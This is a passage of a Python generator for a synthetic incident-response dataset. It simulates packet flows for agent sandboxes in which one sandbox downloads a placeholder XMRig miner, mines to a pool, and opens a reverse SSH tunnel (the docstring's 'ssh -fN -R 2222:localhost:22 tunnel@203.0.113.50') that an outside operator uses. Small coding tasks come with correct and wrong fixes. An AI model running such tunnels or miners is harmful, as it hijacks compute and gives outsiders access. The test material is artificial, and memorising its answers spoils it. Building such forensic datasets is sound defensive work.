def ssh_newkeys(rng: random.Random) -> bytes:
    return ssh_plain(rng, b"\x15")


def ssh_kexinit_len(kex: str, hostkey: str, ciphers: str = OPENSSH_CIPHERS, macs: str = OPENSSH_MACS) -> int:
    names = [kex, hostkey] + [ciphers] * 2 + [macs] * 2 + ["none,zlib@openssh.com"] * 2 + ["", ""]
    return ssh_plain_len(1 + 16 + sum(4 + len(n) for n in names) + 1 + 4)


KEX_INIT_LEN = ssh_plain_len(1 + 4 + 32)
KEX_REPLY_LEN = ssh_plain_len(1 + 4 + (4 + 11 + 4 + 32) + 4 + 32 + 4 + (4 + 11 + 4 + 64))
# inside the tunnel, the operator's client and the sandbox sshd negotiate sntrup761x25519
INNER_KEX_INIT_LEN = ssh_plain_len(1 + 4 + 1190)
INNER_KEX_REPLY_LEN = ssh_plain_len(1 + 4 + (4 + 11 + 4 + 32) + 4 + 1071 + 4 + (4 + 11 + 4 + 64))
NEWKEYS_LEN = ssh_plain_len(1)


def ssh_handshake(flow: TcpFlow, t: float, client_banner: bytes, server_banner: bytes, server_kex: str,
                  server_ciphers: str = OPENSSH_CIPHERS, server_macs: str = OPENSSH_MACS) -> float:
    """Banners, KEXINITs, sntrup761x25519 exchange and NEWKEYS, client = TCP client (side 0).
    Returns the time the client sent NEWKEYS. Timing never depends on ``flow.frames``."""
    b = flow.brng
    fr = flow.frames
    tc = t + 0.0003
    flow.send(0, client_banner if fr else len(client_banner), tc)
    ts = t + flow.delay(1)
    flow.send(1, server_banner if fr else len(server_banner), ts)
    t = ts + 0.0004
    flow.send(0, ssh_kexinit(b, OPENSSH_96_KEX, OPENSSH_96_HOSTKEY) if fr
              else ssh_kexinit_len(OPENSSH_96_KEX, OPENSSH_96_HOSTKEY), t)
    ts2 = max(tc + flow.delay(1) + 0.0006, ts + 0.0001)
    flow.send(1, ssh_kexinit(b, server_kex, OPENSSH_SERVER_HOSTKEY, server_ciphers, server_macs) if fr
              else ssh_kexinit_len(server_kex, OPENSSH_SERVER_HOSTKEY, server_ciphers, server_macs), ts2)
    t = max(t, ts2) + 0.0021
    flow.send(0, ssh_kex_init_msg(b) if fr else KEX_INIT_LEN, t)
    t = t + flow.delay(1) + 0.0035
    flow.send(1, (ssh_kex_reply_msg(b) + ssh_newkeys(b)) if fr else KEX_REPLY_LEN + NEWKEYS_LEN, t)
    t = t + 0.0012
    flow.send(0, ssh_newkeys(b) if fr else NEWKEYS_LEN, t)
    return t


class SshSession:
    """Encrypted SSH packets on a TcpFlow (sizes as chacha20-poly1305 would make them)."""

    def __init__(self, flow: TcpFlow, client_side: int = 0):
        self.f = flow
        self.c = client_side
        self.s = 1 - client_side

    def pkt(self, side: int, payload_len: int, t: float) -> float:
        return self.f.send(side, ssh_enc_len(payload_len), t)

    def many(self, side: int, payload_lens: list, t: float) -> float:
        total = sum(ssh_enc_len(p) for p in payload_lens)
        return self.f.send(side, total, t)


def http_get(host: str, path: str, ua: str) -> bytes:
    return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n").encode()


def xmrig_tarball(seed: int) -> bytes:
    """A small tar.gz standing in for the XMRig release archive: same layout, placeholder bytes
    (the 'binary' is random data, not a program)."""
    r = rng_for(seed, "tarball")
    members = [
        ("xmrig-6.21.0/xmrig", r.randbytes(180_224), 0o755),
        ("xmrig-6.21.0/config.json", json.dumps({"autosave": True, "cpu": True, "opencl": False, "cuda": False,
                                                  "pools": [{"url": "donate.v2.xmrig.com:3333",
                                                             "user": "YOUR_WALLET_ADDRESS", "keepalive": False,
                                                             "tls": False}]}, indent=4).encode() + b"\n", 0o644),
        ("xmrig-6.21.0/SHA256SUMS", b"", 0o644),
    ]
    digest = hashlib.sha256(members[0][1]).hexdigest()
    members[2] = ("xmrig-6.21.0/SHA256SUMS", f"{digest}  xmrig\n".encode(), 0o644)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("xmrig-6.21.0")
        info.type, info.mode, info.mtime, info.uname, info.gname = tarfile.DIRTYPE, 0o755, 1700736000, "runner", "docker"
        tar.addfile(info)
        for name, data, mode in members:
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime, info.uname, info.gname = len(data), mode, 1700736000, "runner", "docker"
            tar.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, compresslevel=9, mtime=0) as gz:
        gz.write(raw.getvalue())
    return out.getvalue()


# ------------------------------------------------------------------------------------------------
# Flows of the story (each returns a TcpFlow plus facts for the ground truth)
# ------------------------------------------------------------------------------------------------

def flow_probe_attempt(seed: int, i: int, node: Node, sport: int, dst: str, dport: int, t: float, answered: bool,
                       frames: bool = True) -> TcpFlow:
    rng = rng_for(seed, "probe", i)
    f = TcpFlow(rng, rng_for(seed, "probe-bytes", i), (node.ip, sport), (dst, dport), rtt=0.00035,
                local_mac=node.mac, local_ttl=63, remote_ttl=64, frames=frames, cli_ipid=ipid_for(seed, "probe", i))
    if not answered:
        f.syn_only(t)
        return f
    t = f.handshake(t)
    if dport == 22:  # sshd greets first; bash closes the redirect without writing
        f.send(1, BANNER_NODE, t + 0.0004)
    t = f.close(0, t + 0.0002)
    return f


def flow_monitor(seed: int, key: tuple, node: Node, sport: int, dport: int, t: float, frames: bool = True) -> TcpFlow:
    rng = rng_for(seed, "monitor", *key)
    f = TcpFlow(rng, None, (MONITOR_IP, sport), (node.ip, dport), local_is_client=False, rtt=0.00042,
                local_mac=node.mac, local_ttl=64, remote_ttl=64, frames=frames, cli_ipid=ipid_for(seed, "monitor", *key))
    t = f.handshake(t)
    if dport == 22:
        f.send(1, BANNER_NODE, t + 0.0011)
        t += 0.0013
    f.close(0, t + 0.0004)
    return f


def flow_tls(seed: int, key: tuple, node: Node, sport: int, t: float, down: int, frames: bool = True,
             sni: str = PYPI_HOST, dst: str = PYPI_IP, rtt: float = 0.0094) -> TcpFlow:
    rng = rng_for(seed, "tls", *key)
    brng = rng_for(seed, "tls-bytes", *key)
    f = TcpFlow(rng, brng, (node.ip, sport), (dst, 443), rtt=rtt, local_mac=node.mac, local_ttl=63,
                remote_ttl=57, frames=frames, cli_ipid=ipid_for(seed, "tls", *key))
    t = f.handshake(t)
    hello = tls_client_hello(brng, sni) if frames else None
    t += 0.0011
    f.send(0, hello if frames else tls_hello_lens(sni)[0], t)
    t += f.delay(1) + 0.0016
    server = (tls_server_hello(brng, hello) + tls_app(brng, 3912)) if frames else tls_hello_lens(sni)[1] + tls_app_len(3912)
    t = f.send(1, server, t, gap=0.00009)
    t += f.delay(0) + 0.0021
    req = 312
    if frames:
        client = tls_record(20, b"\x01") + tls_app(brng, 36) + tls_app(brng, req)
    else:
        client = 6 + tls_app_len(36) + tls_app_len(req)
    f.send(0, client, t)
    t += f.delay(1) + 0.0180 + rng.random() * 0.03
    tickets = tls_app(brng, 233) * 2 if frames else 2 * tls_app_len(233)
    f.send(1, tickets, t)
    t += 0.0004
    body = tls_app(brng, down) if frames else tls_app_len(down)
    t = f.bulk(1, body, t, rate=2_400_000 + rng.random() * 1_600_000)
    t += 0.05 + rng.random() * 0.4
    f.send(0, tls_app(brng, 2) if frames else 24, t)
    f.close(0, t + 0.0002)
    return f


def flow_git(seed: int, node: Node, sport: int, t: float, frames: bool = True) -> tuple[TcpFlow, dict]:
    rng = rng_for(seed, "git")
    f = TcpFlow(rng, rng_for(seed, "git-bytes"), (node.ip, sport), (GIT_IP, 22), rtt=0.0213,
                local_mac=node.mac, local_ttl=63, remote_ttl=56, frames=frames, cli_ipid=ipid_for(seed, "git"))
    t0 = t
    t = f.handshake(t)
    t = ssh_handshake(f, t, BANNER_CLIENT, BANNER_GIT_SERVER, GIT_SERVER_KEX, GIT_SERVER_CIPHERS, GIT_SERVER_MACS)
    s = SshSession(f)
    # service request/accept, ext-info, publickey auth, session, exec git-upload-pack
    for c_len, s_lens in ((17, [17, 250]), (110, [90]), (390, [1]), (44, [17]),
                          (4 + 1 + 4 + 4 + 4 + 4 + 34, [17]), (60, [0])):
        t = s.pkt(0, c_len, t + 0.0009) + f.delay(1)
        t = s.many(1, [p for p in s_lens if p] or [1], t) + 0.0004
    refs = 1638
    t = s.pkt(1, 9 + refs, t + 0.09)
    t = s.pkt(0, 9 + 312, t + f.delay(0) + 0.002) + f.delay(1)
    t = s.many(1, [9 + 60] * 4, t + 0.4)  # "Enumerating/Counting/Compressing objects" on stderr
    t += 3.4 + rng.random() * 0.4
    pack = 121_873
    chunks = []
    left = pack
    while left > 0:
        k = min(32759, left)
        chunks.append(ssh_enc_len(9 + k))
        left -= k
    t = f.bulk(1, sum(chunks), t, rate=96_000 + rng.random() * 8_000)
    t = s.many(1, [9 + 48, 13, 1 + 4 + 4 + 11 + 1 + 4, 5, 5], t + 0.01)
    t = s.many(0, [5, 5], t + f.delay(0) + 0.002)
    t = s.pkt(0, 1 + 4 + 4 + 11 + 4, t + 0.001)
    end = f.close(0, t + 0.0005)
    return f, {"start": t0, "end": end, "pack_bytes": pack}


def flow_http_download(seed: int, node: Node, sport: int, t: float, body: bytes | None, body_len: int,
                       frames: bool = True) -> tuple[TcpFlow, dict]:
    rng = rng_for(seed, "download")
    f = TcpFlow(rng, rng_for(seed, "download-bytes"), (node.ip, sport), (DL_IP, 80), rtt=0.0612,
                local_mac=node.mac, local_ttl=63, remote_ttl=50, frames=frames, cli_ipid=ipid_for(seed, "download"))
    t0 = t
    t = f.handshake(t)
    req = http_get(DL_HOST, DL_PATH, "curl/8.5.0")
    t_get = t + 0.0002
    f.send(0, req, t_get)
    t = t_get + f.delay(1) + 0.0009
    head = ("HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nDate: Tue, 17 Feb 2026 02:27:30 GMT\r\n"
            "Content-Type: application/octet-stream\r\n"
            f"Content-Length: {body_len}\r\nLast-Modified: Thu, 23 Nov 2023 10:40:00 GMT\r\n"
            "Connection: keep-alive\r\nETag: \"655f2c80-62a1f\"\r\nAccept-Ranges: bytes\r\n\r\n").encode()
    payload = head + body if frames else len(head) + body_len
    t_resp = t
    t = f.bulk(1, payload, t, rate=2_950_000)
    end = f.close(0, t + 0.0011)
    return f, {"start": t0, "get": t_get, "response": t_resp, "end": end, "http_header_bytes": len(head)}


OPERATOR_BANNER = b"SSH-2.0-OpenSSH_9.3\r\n"
OPERATOR_SESSIONS = (
    ("02:44:10.337", ("id", "uname -a", "nvidia-smi", "exit")),
    ("02:58:05.912", ("ps -eo pid,etime,args | grep [x]mrig",
                      "nvidia-smi --query-gpu=index,utilization.gpu,power.draw --format=csv", "exit")),
)
OPERATOR_OUTPUT_LEN = {"id": 57, "uname -a": 112, "nvidia-smi": 3714,
                       "ps -eo pid,etime,args | grep [x]mrig": 263,
                       "nvidia-smi --query-gpu=index,utilization.gpu,power.draw --format=csv": 327, "exit": 8}


def flow_tunnel(seed: int, node: Node, sport: int, t: float, end: float, frames: bool = True) -> tuple[TcpFlow, dict]:
    """``ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50`` from the sandbox, until it is killed.

    After login the client only sends keepalive@openssh.com every 30 s of silence. Twice, someone
    at 203.0.113.50 connects to port 2222 there and types into the sandbox's sshd: the keystrokes
    come FROM the server (76-byte packets: a 36-byte inner chacha20 packet inside CHANNEL_DATA)
    and the node echoes them."""
    rng = rng_for(seed, "tunnel")
    f = TcpFlow(rng, rng_for(seed, "tunnel-bytes"), (node.ip, sport), (TUNNEL_IP, 22), rtt=0.1724,
                local_mac=node.mac, local_ttl=63, remote_ttl=47, frames=frames, cli_ipid=ipid_for(seed, "tunnel"))
    info: dict = {"syn": t}
    t = f.handshake(t)
    info["established"] = t
    t = ssh_handshake(f, t, BANNER_CLIENT, BANNER_TUNNEL_SERVER, TUNNEL_SERVER_KEX)
    s = SshSession(f)
    user = 4 + len("tunnel")
    t = s.pkt(0, 17, t + 0.0002) + f.delay(1)                                        # SERVICE_REQUEST
    t = s.many(1, [255, 17], t) + 0.0009                                             # EXT_INFO, ACCEPT
    t = s.pkt(0, 1 + user + 18 + 13 + 1 + 15 + 55, t) + f.delay(1)                   # publickey query
    t = s.pkt(1, 1 + 15 + 55, t) + 0.0011                                            # PK_OK
    t = s.pkt(0, 1 + user + 18 + 13 + 1 + 15 + 55 + 87, t) + f.delay(1)              # signed request
    t = s.many(1, [1, 1 + 25 + 1 + 59 + 111 + 283], t) + 0.0006                      # SUCCESS, hostkeys-00
    t = s.pkt(0, 1 + 17 + 1 + 4 + 4, t) + f.delay(1)                                 # tcpip-forward 2222
    t = s.pkt(1, 1, t)                                                               # REQUEST_SUCCESS
    f.ack(0, t + 0.0402)
    info["forward_ready"] = t
    info["keepalives"] = 0
    info["sessions"] = []
    last_rx = t
    sessions = [(hms(ts), cmds) for ts, cmds in OPERATOR_SESSIONS]
    while True:
        next_ka = last_rx + 30.0 + rng.random() * 0.004
        nxt_session = sessions[0][0] if sessions else None
        if nxt_session is not None and nxt_session < next_ka:
            t_open, cmds = sessions.pop(0)
            last_rx, sess = _tunnel_session(f, s, rng, t_open, cmds)
            info["sessions"].append(sess)
            continue
        if next_ka >= end:
            break
        t = s.pkt(0, 27, next_ka)                                                    # keepalive@openssh.com
        t = s.pkt(1, 1, t + f.delay(1))                                              # REQUEST_FAILURE
        f.ack(0, t + 0.0401 + rng.random() * 0.002)
        info["keepalives"] += 1
        last_rx = t
    f.close(0, end)  # the responders' kill -9: the kernel closes the socket
    info["end"] = end
    return f, info


def _tunnel_session(f: TcpFlow, s: SshSession, rng: random.Random, t: float, cmds: tuple) -> tuple[float, dict]:
    rtt = f.rtt

    def nested(inner_payload_len: int) -> int:  # an inner encrypted packet inside CHANNEL_DATA
        return 9 + ssh_enc_len(inner_payload_len)

    def plain(inner_plain_len: int) -> int:
        return 9 + inner_plain_len

    sess = {"open": t, "commands": []}
    s.pkt(1, 1 + 19 + 12 + 4 + 4 + 4 + 13 + 4, t)                       # CHANNEL_OPEN forwarded-tcpip
    sess["local_connect"] = t + 0.0006
    tc = t + 0.0011
    s.pkt(0, 17, tc)                                                  # OPEN_CONFIRMATION
    s.pkt(0, plain(len(BANNER_NODE)), tc + 0.0031)                     # sandbox sshd banner
    t = t + rtt + 0.0012
    s.many(1, [plain(len(OPERATOR_BANNER)), plain(ssh_kexinit_len(OPENSSH_96_KEX, OPENSSH_96_HOSTKEY))], t)
    s.pkt(0, plain(ssh_kexinit_len(OPENSSH_SERVER_KEX, OPENSSH_96_HOSTKEY)), t + 0.0009)
    t = t + 0.0009 + rtt + 0.0017
    s.pkt(1, plain(INNER_KEX_INIT_LEN), t)
    t += 0.0043
    s.pkt(0, plain(INNER_KEX_REPLY_LEN + NEWKEYS_LEN), t)
    t += rtt + 0.0011
    s.many(1, [plain(NEWKEYS_LEN), nested(17)], t)                    # NEWKEYS, SERVICE_REQUEST
    t += 0.0012
    s.pkt(0, nested(255) + nested(17) - 9, t)                           # EXT_INFO + ACCEPT
    t += rtt + 0.0009
    s.pkt(1, nested(1 + 11 + 18 + 12 + 1 + 4 + 13), t)                 # password auth (one packet)
    t += 0.0186                                                        # PAM
    s.pkt(0, nested(1), t)                                             # USERAUTH_SUCCESS
    sess["login"] = t
    t += rtt + 0.0008
    s.many(1, [nested(24), nested(1 + 4 + 4 + 7 + 1 + 18 + 16 + 264), nested(1 + 4 + 4 + 5 + 1)], t)  # open, pty, shell
    t += 0.0016
    s.pkt(0, nested(17) + nested(9) - 9, t)                             # confirmation, success
    t += 0.0391
    s.pkt(0, nested(9 + 612), t)                                       # motd and prompt
    f.ack(1, t + rtt + 0.0402)
    t += rtt + 0.9 + rng.random() * 1.4
    for cmd in cmds:
        keys = list(cmd) + ["\r"]
        sess["commands"].append({"typed_from": t, "command": cmd})
        for k in keys:
            s.pkt(1, nested(10), t)                                    # one keystroke
            echo = t + 0.0009 + rng.random() * 0.0006
            if k == "\r":
                s.pkt(0, nested(11), echo)                             # echo "\\r\\n"
                out = OPERATOR_OUTPUT_LEN.get(cmd, 64)
                t_out = echo + 0.004 + (0.19 if cmd.startswith("nvidia-smi") else 0.003)
                sess["commands"][-1]["enter"] = t
                if cmd == "exit":
                    s.pkt(0, nested(9 + out), t_out)                   # "logout"
                    s.many(0, [nested(1 + 4 + 4 + 11 + 1 + 4), nested(5), nested(5)], t_out + 0.0011)
                    t_back = t_out + rtt + 0.0009
                    s.many(1, [nested(5)], t_back)
                    t_back += 0.0012
                    s.many(0, [5, 5], t_back)                           # outer EOF + CLOSE of the forward
                    t_back += rtt + 0.0007
                    s.pkt(1, 5, t_back)
                    f.ack(0, t_back + 0.0401)
                    sess["close"] = t_back
                    return t_back, sess
                s.pkt(0, nested(9 + out + 27), t_out)                  # output and the next prompt
                f.ack(1, t_out + rtt + 0.0402)
                t = t_out + rtt + 1.1 + rng.random() * 2.6
            else:
                s.pkt(0, nested(10), echo)                             # the node echoes it
                gap = 0.09 + rng.random() * 0.26
                if gap > rtt + 0.045:
                    f.ack(1, echo + rtt + 0.0403)                      # bare ACK from the server side
                t = echo + gap
    sess["close"] = t
    return t, sess


def _stratum_json(obj: dict) -> bytes:
    return (json.dumps(obj, separators=(",", ":"), ensure_ascii=False) + "\n").encode()


def _job_id(rng: random.Random) -> str:
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(28))


def _blob(rng: random.Random, ts: int) -> str:
    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            b = n & 0x7F
            n >>= 7
            out.append(b | (0x80 if n else 0))
            if not n:
                return bytes(out)
    return (bytes([16, 16]) + varint(ts) + rng.randbytes(32) + b"\0\0\0\0" + rng.randbytes(32)
            + varint(rng.randint(3, 90))).hex()


def flow_stratum(seed: int, node: Node, sport: int, t: float, end: float, wallet: str,
                 frames: bool = True) -> tuple[TcpFlow, dict]:
    """XMRig 6.21.0 talking to the pool over plain stratum+tcp (newline-delimited JSON-RPC)."""
    rng = rng_for(seed, "stratum")
    f = TcpFlow(rng, None, (node.ip, sport), (POOL_IP, POOL_PORT), rtt=0.0481, local_mac=node.mac,
                local_ttl=63, remote_ttl=53, frames=frames, cli_ipid=ipid_for(seed, "stratum"))
    info: dict = {"syn": t, "messages": []}
    msgs = info["messages"]
    t = f.handshake(t)
    sid = uuid_from(seed, "stratum-session")
    target = "cf8b0000"  # difficulty 120001
    seed_hash = rng.randbytes(32).hex()
    height = 3_592_417
    algos = ["cn/1", "cn/2", "cn/r", "cn/fast", "cn/half", "cn/xao", "cn/rto", "cn/rwz", "cn/zls", "cn/double",
             "cn/ccx", "cn-lite/1", "cn-heavy/0", "cn-heavy/tube", "cn-heavy/xhv", "cn-pico", "cn-pico/tlo",
             "cn/upx2", "rx/0", "rx/wow", "rx/arq", "rx/graft", "rx/sfx", "rx/keva", "argon2/chukwa",
             "argon2/chukwav2", "argon2/ninja", "ghostrider"]

    def job(h: int, tt: float) -> dict:
        return {"blob": _blob(rng, int(tt) - 7), "job_id": _job_id(rng), "target": target, "algo": "rx/0",
                "height": h, "seed_hash": seed_hash}

    def log(tt: float, side: int, obj: dict, kind: str) -> None:
        msgs.append({"t": tt, "dir": "client" if side == 0 else "pool", "kind": kind, "json": obj})

    login = {"id": 1, "jsonrpc": "2.0", "method": "login",
             "params": {"login": wallet, "pass": "rig317", "agent": XMRIG_AGENT, "algo": algos}}
    t += 0.0004
    f.send(0, _stratum_json(login), t)
    log(t, 0, login, "login")
    current = job(height, t)
    reply = {"id": 1, "jsonrpc": "2.0", "error": None,
             "result": {"id": sid, "job": current, "extensions": ["algo", "nicehash", "connect", "tls", "keepalive"],
                        "status": "OK"}}
    t += f.delay(1) + 0.0031
    f.send(1, _stratum_json(reply), t)
    log(t, 1, reply, "login_result")
    f.ack(0, t + 0.0403)
    info["login"] = msgs[0]["t"]

    # Share times: RandomX on two H100s against difficulty 120001 gives a share about every 15 s.
    shares = []
    ts = T_XMRIG_GPU + 2.2
    long_gaps = [hms("02:44:40"), hms("02:52:30"), hms("03:03:20")]
    while ts < end:
        gap = rng.expovariate(1 / 15.0)
        if long_gaps and ts + gap > long_gaps[0]:
            gap = (long_gaps.pop(0) - ts) + 70 + rng.random() * 20  # no share for over a minute
        ts += gap
        if abs(ts - PCAP_END) < 1.5:
            ts += 3.0
        if ts < end:
            shares.append(ts)
    blocks = []
    tb = t
    while tb < end:
        tb += rng.expovariate(1 / 120.0) + 5
        if tb < end:
            blocks.append(tb)
    events = [(x, "share") for x in shares] + [(x, "block") for x in blocks]
    events.sort()
    reject_after = hms("02:47:00")
    rejected_done = False
    merged_done = False
    split_done = False
    next_id = 2
    last_send = t
    last_rx = t
    for tt, kind in events:
        # keepalived: XMRig sends one when it has sent nothing for 60 s
        while tt - last_send > 60.0:
            tk = last_send + 60.0 + rng.random() * 0.01
            if tk >= end:
                break
            ka = {"id": next_id, "jsonrpc": "2.0", "method": "keepalived", "params": {"id": sid}}
            f.send(0, _stratum_json(ka), tk)
            log(tk, 0, ka, "keepalived")
            tr = tk + f.delay(1) + 0.0012
            kr = {"id": next_id, "jsonrpc": "2.0", "error": None, "result": {"status": "KEEPALIVED"}}
            f.send(1, _stratum_json(kr), tr)
            log(tr, 1, kr, "keepalived_result")
            f.ack(0, tr + 0.0402)
            next_id += 1
            last_send, last_rx = tk, tr
        if tt >= end:
            break
        if kind == "block":
            height += 1
            current = job(height, tt)
            push = {"jsonrpc": "2.0", "method": "job", "params": dict(current, id=sid)}
            data = _stratum_json(push)
            if not split_done and tt > hms("02:39:00"):
                # one write split over two segments (the pool flushed mid-message)
                cut = 211
                f.send(1, data[:cut], tt)
                f.send(1, data[cut:], tt + 0.0014)
                split_done = True
                info["split_job_at"] = tt
            else:
                f.send(1, data, tt)
            log(tt, 1, push, "job")
            f.ack(0, tt + 0.0401)
            last_rx = tt
            continue
        nonce = rng.randbytes(4).hex()
        low = rng.randrange(0, 0x8BCF)
        reject = (not rejected_done) and tt > reject_after
        if reject:
            low = 0x00012F3A + rng.randrange(0, 0x4000)  # above the target: a low-difficulty share
        result = (rng.randbytes(28) + low.to_bytes(4, "little")).hex()
        sub = {"id": next_id, "jsonrpc": "2.0", "method": "submit",
               "params": {"id": sid, "job_id": current["job_id"], "nonce": nonce, "result": result, "algo": "rx/0"}}
        f.send(0, _stratum_json(sub), tt)
        log(tt, 0, sub, "submit")
        tr = tt + f.delay(1) + 0.0009 + rng.random() * 0.002
        if reject:
            rep = {"id": next_id, "jsonrpc": "2.0", "error": {"code": -1, "message": "Low difficulty share"}}
            rejected_done = True
            kind_r = "submit_rejected"
        else:
            rep = {"id": next_id, "jsonrpc": "2.0", "error": None, "result": {"status": "OK"}}
            kind_r = "submit_accepted"
        data = _stratum_json(rep)
        if not merged_done and tt > hms("02:35:00") and not reject:
            # the pool answers the share and pushes a new block template in the same segment
            height += 1
            current = job(height, tr)
            push = {"jsonrpc": "2.0", "method": "job", "params": dict(current, id=sid)}
            f.send(1, data + _stratum_json(push), tr)
            log(tr, 1, rep, kind_r)
            log(tr, 1, push, "job")
            merged_done = True
            info["merged_segment_at"] = tr
        else:
            f.send(1, data, tr)
            log(tr, 1, rep, kind_r)
        f.ack(0, tr + 0.0401)
        next_id += 1
        last_send, last_rx = tt, tr
    f.close(0, end)
    info["end"] = end
    return f, info


# ------------------------------------------------------------------------------------------------
# Trajectories: data model
# ------------------------------------------------------------------------------------------------

@dataclass
class Exec:
    """One execve in a sandbox (for audit.log), with the connects it made."""
    t: float
    argv: list
    exe: str
    cwd: str
    parent: int | None = None      # index of the parent exec in the same step; None: the session shell
    uid: int = 1000
    comm: str | None = None
    path_name: str | None = None
    static: bool = False
    connects: list = field(default_factory=list)  # (t, ip, port, exit_code)
    pid: int | None = None         # fixed PID (incident processes)
    same_pid_as: int | None = None  # exec replaces an earlier exec's image (nohup -> xmrig)
    ppid: int | None = None        # fixed parent PID


@dataclass
class Egress:
    """One outbound TCP connection from a sandbox (leaves the node SNATed to node IP / EIP)."""
    t: float
    sport: int
    dst: str
    dport: int
    app: str
    domain: str
    kind: str
    down: int = 0
    dns_t: float | None = None
    key: tuple = ()


@dataclass
class Step:
    t_call: float
    t_done: float
    command: str
    output: str
    exit_code: int
    thought: str
    execs: list = field(default_factory=list)
    egress: list = field(default_factory=list)
    label: str = ""


@dataclass
class Traj:
    number: int
    node: Node
    start: float
    end: float
    steps: list
    task: str
    reward: float
    tool: str
    kind: str
    repo: str
    final: str
    ip: str = ""
    lease_end: float = 0.0
    pool_port: int = 0

    @property
    def tid(self) -> str:
        return f"traj-{self.number:06d}"

    @property
    def sbx(self) -> str:
        return f"sbx-{self.number:04d}"

    def cid(self, seed: int) -> str:
        return hexdigest(seed, "container", self.sbx)

    @property
    def created(self) -> float:
        return self.start - 2.4


# ------------------------------------------------------------------------------------------------
# Benign work: small repositories the tasks are about
# ------------------------------------------------------------------------------------------------

REPOS = {
    "textstats": dict(pkg="textstats", func="word_count", module="core",
                      code=['"""Small text statistics helpers."""', "", "", "def word_count(text: str) -> int:",
                            '    """Number of words in ``text``."""', "    if not text:", "        return 0",
                            '    return len(text.split(" "))', "", "", "def char_freq(text: str) -> dict:",
                            "    counts = {}", "    for ch in text:", "        counts[ch] = counts.get(ch, 0) + 1",
                            "    return counts"],
                      fix=("text.split(\" \")", "text.split()"),
                      wrong=('text.split(" ")', 'text.strip().split(" ")'),
                      test="test_word_count_spaces",
                      assertion='assert word_count("a  b") == 2', err="assert 3 == 2", n=9, dep="pytest-timeout",
                      task="`word_count()` in textstats returns too many words when words are separated by more "
                           "than one space. Fix it so that `word_count('a  b') == 2`, without breaking the other tests."),
    "csvtool": dict(pkg="csvtool", func="parse_row", module="rows",
                    code=['"""Row parsing."""', "import csv", "", "", "def parse_row(line: str, sep: str = ',') -> list:",
                          "    return line.rstrip('\\n').split(sep)", "", "", "def infer_types(row: list) -> list:",
                          "    return [int(v) if v.isdigit() else v for v in row]"],
                    fix=("line.rstrip('\\n').split(sep)", "next(csv.reader([line], delimiter=sep))"),
                    wrong=("line.rstrip('\\n').split(sep)", "line.strip().split(sep)"),
                    test="test_parse_row_quoted", assertion="assert parse_row('a,\"b,c\"') == ['a', 'b,c']",
                    err="assert ['a', '\"b', 'c\"'] == ['a', 'b,c']", n=12, dep="hypothesis",
                    task="`csvtool.parse_row` splits quoted fields that contain the separator. Make it honour CSV quoting; "
                         "all tests in tests/ must pass."),
    "datekit": dict(pkg="datekit", func="humanize_delta", module="human",
                    code=['"""Human-friendly durations."""', "", "", "def humanize_delta(seconds: int) -> str:",
                          "    if seconds < 60:", "        return f'{seconds}s'", "    if seconds < 3600:",
                          "        return f'{seconds // 60}m'", "    return f'{seconds // 3600}h'"],
                    fix=("return f'{seconds // 3600}h'", "return f'{seconds // 3600}h{seconds % 3600 // 60}m'"),
                    wrong=("return f'{seconds // 3600}h'", "return f'{seconds // 3600}h{seconds // 60}m'"),
                    test="test_hours_and_minutes", assertion="assert humanize_delta(3900) == '1h5m'",
                    err="assert '1h' == '1h5m'", n=7, dep="python-dateutil==2.9.0.post0",
                    task="`humanize_delta(3900)` should return `'1h5m'` but returns `'1h'`. Fix datekit and keep the "
                         "existing behaviour for durations under an hour."),
    "urlnorm": dict(pkg="urlnorm", func="strip_tracking", module="clean",
                    code=['"""Remove tracking parameters."""', "from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit",
                          "", "TRACKING = ('utm_source', 'utm_medium')", "", "", "def strip_tracking(url: str) -> str:",
                          "    parts = urlsplit(url)", "    query = [(k, v) for k, v in parse_qsl(parts.query) if k not in TRACKING]",
                          "    return urlunsplit(parts._replace(query=urlencode(query)))"],
                    fix=("TRACKING = ('utm_source', 'utm_medium')",
                         "TRACKING = ('utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content')"), wrong=("TRACKING = ('utm_source', 'utm_medium')", "TRACKING = ('utm_source', 'utm_medium', 'utm_campaign')"),
                    test="test_strip_campaign", assertion="assert strip_tracking(URL) == 'https://example.com/a?x=1'",
                    err="assert 'https://example.com/a?x=1&utm_campaign=s' == 'https://example.com/a?x=1'", n=10,
                    dep="pytest-timeout",
                    task="`strip_tracking` leaves `utm_campaign`, `utm_term` and `utm_content` in URLs. Remove all utm_* "
                         "tracking parameters and make the test suite pass."),
    "cachelite": dict(pkg="cachelite", func="LRUCache.get", module="lru",
                      code=['"""A tiny LRU cache."""', "from collections import OrderedDict", "", "",
                            "class LRUCache:", "    def __init__(self, size: int):", "        self.size = size",
                            "        self.data = OrderedDict()", "", "    def get(self, key):",
                            "        return self.data.get(key)"],
                      fix=("        return self.data.get(key)",
                           "        if key in self.data:\\n            self.data.move_to_end(key)\\n        return self.data.get(key)"), wrong=('        return self.data.get(key)', '        return self.data.get(key, None)'),
                      test="test_get_refreshes_recency", assertion="assert 'a' in cache.data", err="assert 'a' in OrderedDict([('b', 2), ('c', 3)])",
                      n=8, dep="pytest-timeout",
                      task="In cachelite, reading a key with `get()` should mark it as recently used, so it is not the next "
                           "one evicted. Implement that and make tests pass."),
    "mdtable": dict(pkg="mdtable", func="render_table", module="render",
                    code=['"""Markdown tables."""', "", "", "def render_table(rows: list) -> str:",
                          "    widths = [max(len(str(c)) for c in col) for col in zip(*rows)]",
                          "    lines = ['| ' + ' | '.join(str(c).ljust(w) for c, w in zip(r, widths)) + ' |' for r in rows]",
                          "    return '\\n'.join(lines)"],
                    fix=("    return '\\n'.join(lines)",
